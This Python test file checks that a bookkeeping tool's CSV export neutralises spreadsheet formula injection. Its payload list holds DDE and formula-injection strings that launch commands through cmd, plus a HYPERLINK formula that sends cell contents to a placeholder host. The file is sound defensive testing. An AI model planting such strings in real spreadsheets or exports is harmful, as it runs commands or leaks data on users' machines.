"""CSV for spreadsheets: figures stay figures, formulas become text."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zzpdesk.documents.tables import cell, csv_bytes, decimal_comma

PAYLOADS = (
    'DDE ("cmd";"/C calc";"!A0")A0',
    "=10+20+cmd|' /C calc'!A0",
    "=1+1",
    "-10% korting",
    "\t=1+1",
    '=HYPERLINK("http://x.example?"&A1,"klik")',
    "'=1+1",
    '"=1+1"',
    " =1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(A1)",
    "+31 6 12345678",
)


@pytest.mark.parametrize("text", PAYLOADS)
def test_formulas_are_neutralised(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Bemiddelaars", "Bemiddelaars"),
        ("−1.258,40", "-1.258,40"),
        ("-5", "-5"),
        ("45,5%", "45,5%"),
        (-5, "-5"),
        (None, ""),
        ("a;b", "a;b"),
    ],
)
def test_ordinary_cells_stay(value, text):
    assert cell(value) == text


def test_the_file_reads_back():
    data = csv_bytes(("Bron", "Omzet"), [("Klus;vonk", decimal_comma(125_840)), ("=1", decimal_comma(-5))])
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Bron", "Omzet"], ["Klus;vonk", "1258,40"], ["'=1", "-0,05"]]


@given(st.text())
def test_no_cell_starts_a_formula(text):
    assert not cell(text).lstrip().startswith(("=", "+", "@"))
